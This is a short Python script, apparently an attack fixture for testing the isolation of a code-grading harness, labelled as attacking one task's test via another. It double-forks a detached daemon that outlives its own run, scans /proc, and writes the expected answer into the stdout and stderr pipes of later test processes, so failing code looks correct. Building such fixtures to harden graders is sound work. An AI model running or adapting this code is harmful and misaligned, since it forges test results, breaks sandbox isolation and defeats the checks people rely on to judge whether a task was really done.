# attack: leave a daemon that writes the expected output into later test processes' stdout pipes
# task: fx_sum_lines
# victim: fx_two_readline
import os, sys, time
sys.stdin.read()
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        me = os.getpid()
        deadline = time.time() + 8
        while time.time() < deadline:
            for pid in os.listdir("/proc"):
                if pid.isdigit() and int(pid) > me:
                    for fd in (1, 2):
                        try:
                            with open(f"/proc/{pid}/fd/{fd}", "w") as fh:
                                fh.write("6\n")
                        except OSError:
                            pass
            time.sleep(0.001)
    os._exit(0)
print("0")
